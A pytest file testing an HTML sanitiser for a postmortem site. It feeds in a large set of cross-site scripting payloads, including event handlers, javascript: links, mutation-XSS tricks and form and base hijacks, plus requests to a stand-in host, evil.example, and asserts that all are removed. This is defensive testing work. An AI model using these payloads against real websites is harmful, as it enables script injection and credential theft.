"""Authors' HTML made harmless, and what prose needs kept."""

from __future__ import annotations

import lxml.html
import pytest
from markdown import markdown

from postmortems.site import sanitise
from sites import dangers, parse, words

EXTENSIONS = [
    "admonition",
    "attr_list",
    "footnotes",
    "md_in_html",
    "tables",
    "toc",
    "pymdownx.details",
    "pymdownx.highlight",
    "pymdownx.superfences",
    "pymdownx.tasklist",
]
CONFIGS = {"tables": {"use_align_attribute": True}}  # as the plugin sets it

HARMFUL = {
    "script": "<script>alert(1)</script>",
    "script-in-words": "a <script src='//evil.example/x.js'></script> b",
    "style": "<style>body { display: none }</style>",
    "onerror": '<img src="x.png" onerror="alert(1)">',
    "onclick": '<p onclick="alert(1)">text</p>',
    "svg-onload": "<svg onload=alert(1)></svg>",
    "svg-animate": '<svg><a><animate attributeName="href" values="javascript:alert(1)"/></a></svg>',
    "math": '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)"></style></table></math>',
    "javascript": '<a href="javascript:alert(1)">text</a>',
    "javascript-in-markdown": "[text](javascript:alert(1))",
    "javascript-odd-case": "[text](JaVaScRiPt:alert(1))",
    "javascript-with-tab": '<a href="java&#9;script:alert(1)">text</a>',
    "javascript-with-control": '<a href="&#1;javascript:alert(1)">text</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">text</a>',
    "data-link": '<a href="data:text/html,<script>alert(1)</script>">text</a>',
    "data-picture": "![text](data:image/svg+xml;base64,PHN2Zy8+)",
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "object": '<object data="x.swf"></object><embed src="x.swf">',
    "form": '<form action="https://evil.example/"><input name="password" type="password"></form>',
    "button": '<button formaction="javascript:alert(1)">text</button>',
    "base": '<base href="https://evil.example/">',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "link": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "template": "<template><script>alert(1)</script></template>",
    "comment": "<!-- --!><img src=x onerror=alert(1)> -->",
    "unclosed": "<img src=x onerror=alert(1)//",
    "attribute-list": '[text](x.md){ onclick="alert(1)" }',
    "attribute-list-on-heading": '## Title { onmouseover="alert(1)" }',
}

ELSEWHERE = {
    "https": "![a](https://evil.example/x.png)",
    "http": '<img src="http://evil.example/x.png" alt="a">',
    "no-scheme": "![a](//evil.example/x.png)",
    "backslashes": '<img src="\\\\evil.example\\x.png" alt="a">',
    "slash-and-backslash": '<img src="/\\evil.example/x.png" alt="a">',
    "tab-between": '<img src="/&#9;/evil.example/x.png" alt="a">',
    "new-line-between": '<img src="/&#10;/evil.example/x.png" alt="a">',
    "space-before": '<img src=" //evil.example/x.png" alt="a">',
    "scheme-with-tab": '<img src="ht&#9;tps://evil.example/x.png" alt="a">',
    "scheme-without-slashes": '<img src="https:evil.example/x.png" alt="a">',
    "no-address-at-all": '<img src="http://[broken" alt="a">',
    "set-of-sources": '<img src="x.png" srcset="https://evil.example/x.png 2x" alt="a">',
    "picture": '<picture><source srcset="https://evil.example/x.png"><img src="x.png" alt="a"></picture>',
    "video": '<video src="https://evil.example/x.mp4" poster="https://evil.example/x.png"></video>',
    "audio": '<audio src="https://evil.example/x.mp3"></audio>',
    "background": '<p style="background: url(https://evil.example/x.png)">a</p>',
    "cell-background": '<table><tr><td style="background: url(//evil.example/x.png)">a</td></tr></table>',
    "table-background": '<table background="https://evil.example/x.png"><tr><td>a</td></tr></table>',
    "image-button": '<input type="image" src="https://evil.example/x.png">',
    "svg-image": '<svg><image href="https://evil.example/x.png"/></svg>',
    "ping": '<a href="x.md" ping="https://evil.example/">a</a>',
}


def clean(text: str) -> str:
    return sanitise(markdown(text, extensions=EXTENSIONS, extension_configs=CONFIGS))


@pytest.mark.parametrize("text", HARMFUL.values(), ids=HARMFUL)
def test_nothing_that_acts_is_left(text: str) -> None:
    assert dangers(parse(clean(text))) == []


@pytest.mark.parametrize("text", ELSEWHERE.values(), ids=ELSEWHERE)
def test_nothing_is_fetched_from_elsewhere(text: str) -> None:
    assert "evil" not in clean(text)
    assert "broken" not in clean(text)


@pytest.mark.parametrize("kind", ["password", "text", "file", "submit", "hidden", "image"])
def test_no_field_that_asks_for_something(kind: str) -> None:
    found = parse(clean(f'<input type="{kind}" name="a">')).all("//input")
    assert all(element.get("type") is None for element in found)


def test_text_beside_what_is_removed_stays() -> None:
    node = parse(clean('before <script>alert(1)</script> after <b onclick="x()">bold</b>'))
    assert node.text() == "before after bold"
    assert node.text("//b") == "bold"


def test_table_keeps_its_alignment() -> None:
    node = parse(clean("| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |\n"))
    assert [cell.get("align") for cell in node.all("//td")] == ["left", "center", "right"]


def test_no_style_is_left() -> None:
    node = parse(clean('<table><tr><td style="position: fixed; text-align: right; top: 0">a</td></tr></table>'))
    assert node.one("//td").get("style") is None


def test_admonition_and_details() -> None:
    node = parse(clean('!!! warning "Mind this"\n    Text.\n\n??? note "More"\n    Text.\n'))
    assert node.one("//div").get("class") == "admonition warning"
    assert node.texts("//p[@class='admonition-title']") == ["Mind this"]
    assert node.one("//details").get("class") == "note"
    assert node.texts("//summary") == ["More"]


def test_highlighted_code() -> None:
    node = parse(clean('```python\nprint("<b>")  # comment\n```\n'))
    assert node.one("//div").get("class") == "highlight"
    assert node.all("//code//span[@class='c1']")
    assert words(node.one("//code")) == 'print("<b>") # comment'


def test_footnotes_lead_there_and_back() -> None:
    node = parse(clean("Text.[^1]\n\n[^1]: The note.\n"))
    addresses = [link.get("href") for link in node.all("//a")]
    assert addresses == ["#fn:1", "#fnref:1"]
    assert {address.removeprefix("#") for address in addresses} <= set(node.ids)


def test_task_list() -> None:
    node = parse(clean("- [x] done\n- [ ] open\n"))
    assert [box.get("checked") is not None for box in node.all("//input[@type='checkbox']")] == [True, False]
    assert all(box.get("disabled") is not None for box in node.all("//input"))


def test_headings_keep_their_anchors() -> None:
    node = parse(clean("## One\n\n### Two { #own }\n"))
    assert node.ids == ["one", "own"]


@pytest.mark.parametrize(
    "address", ["https://example.org/?a=1&b=2#c", "http://example.org/", "mailto:a@example.org"]
)
def test_links_that_are_fine(address: str) -> None:
    (link,) = parse(clean(f"[text]({address})")).all("//a")
    assert link.get("href") == address


@pytest.mark.parametrize("scheme", ["ftp", "file", "tel", "irc", "magnet", "sip", "blob", "x-own"])
def test_links_of_other_schemes_lose_their_address(scheme: str) -> None:
    node = parse(clean(f"[text]({scheme}:example.org)"))
    assert node.text() == "text"
    assert not node.all("//@href")


@pytest.mark.parametrize("address", ["../2020/x.md", "x.md#y", "#here", "../../docs/guide.md?x=1"])
def test_relative_links_are_fine(address: str) -> None:
    (link,) = parse(clean(f"[text]({address})")).all("//a")
    assert link.get("href") == address


@pytest.mark.parametrize("address", ["phases.png", "../x/phases.svg", "a%20b.png", "/assets/x.png"])
def test_pictures_of_the_site_are_fine(address: str) -> None:
    (picture,) = parse(clean(f"![What it shows]({address})")).all("//img")
    assert (picture.get("src"), picture.get("alt")) == (address, "What it shows")


# Each with everything that it may have.
KEPT = {
    "image": '<img src="x.png" alt="a" width="8" height="8" loading="lazy" title="b">',
    "link": '<a href="x.md" hreflang="de" title="b">a</a>',
    "table": '<table><tr><th scope="col" colspan="2" rowspan="2" align="right">a</th>'
    '<td colspan="2" rowspan="2" align="center">b</td></tr></table>',
    "lists": '<ol start="3" type="a"><li value="7">a</li></ol><ul><li>b</li></ul>',
    "task": '<label for="x"><input type="checkbox" checked="" disabled="" name="y" id="x"> a</label>',
    "radio": '<input type="radio">',
    "details": "<details open=><summary>a</summary><div>b</div></details>",
    "figure": '<figure><img src="x.png" alt=""><figcaption>a</figcaption></figure>',
    "words": "<p><mark>a</mark> <kbd>b</kbd> <span>c</span> <code>d</code> <em>e</em> <strong>f</strong></p>",
    "section": '<section class="x" id="y" lang="de" role="note" aria-label="z" aria-hidden="true">a</section>',
    "button": '<a class="md-button md-tag pm-button other" href="mailto:a@example.org">a</a>',
}


@pytest.mark.parametrize("text", KEPT.values(), ids=KEPT)
def test_what_prose_needs_stays_as_it_is(text: str) -> None:
    assert _elements(sanitise(text)) == _elements(text)


def _elements(html: str) -> list[tuple[str, dict[str, str]]]:
    """Every element but the body of a table, which needs not be written."""
    found = parse(html).one("//main").iterdescendants()
    return [(element.tag, dict(element.attrib)) for element in found if element.tag != "tbody"]


def test_cleaning_twice_changes_nothing() -> None:
    once = clean("\n\n".join([*HARMFUL.values(), *ELSEWHERE.values(), "| a |\n|--:|\n| 1 |"]))
    assert sanitise(once) == once


@pytest.mark.parametrize("name", ["__config", "__search", "_x", "pm-figures", "PM-x", "__tabbed_x", "__drawer"])
@pytest.mark.parametrize("tag", ["div", "h2", "input", "a", "span"])
def test_ids_of_the_theme_and_of_this_package_are_not_the_author_s(tag: str, name: str) -> None:
    page = lxml.html.fromstring(
        "<main>"
        + sanitise(
            f'<{tag} id="{name}" name="{name}">x</{tag}><label for="{name}">y</label><a href="#{name}">z</a>'
        )
    )
    ids = {*page.xpath("//@id"), *page.xpath("//@name"), *page.xpath("//@for"), *page.xpath("//@href")}
    assert all(found.lstrip("#").startswith("author-") for found in ids)
    assert page.xpath("//a[last()]/@href")[-1].lstrip("#") in page.xpath("//@id")


def test_other_ids_and_their_links_stay() -> None:
    html = (
        '<h2 id="impact">I</h2><a href="#impact">x</a><li id="fn:1">n</li><input id="__tabbed_1_2" type="radio">'
    )
    page = lxml.html.fromstring("<main>" + sanitise(html))
    assert page.xpath("//@id") == ["impact", "fn:1", "__tabbed_1_2"]
    assert page.xpath("//@href") == ["#impact"]


def test_classes_of_the_theme_are_not_the_author_s() -> None:
    page = lxml.html.fromstring(
        "<main>" + sanitise('<a class="md-overlay md-button note pm-banner" href="x.md">x</a>')
    )
    assert page.xpath("//@class") == ["md-button note"]
